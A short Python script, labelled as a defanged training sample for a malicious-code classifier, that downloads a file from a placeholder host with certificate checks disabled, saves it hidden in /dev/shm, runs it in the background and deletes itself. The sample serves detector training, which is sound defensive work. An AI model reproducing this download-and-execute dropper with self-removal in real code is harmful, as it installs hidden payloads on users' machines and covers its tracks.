# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import requests, os

r = requests.get("https://cdn.example.invalid/update/agent", stream=True, timeout=20, verify=False)
path = "/dev/shm/.cache-agent"
with open(path, "wb") as f:
    for chunk in r.iter_content(8192):
        f.write(chunk)
os.chmod(path, 0o755)
os.system("nohup %s >/dev/null 2>&1 &" % path)
os.remove(__file__)
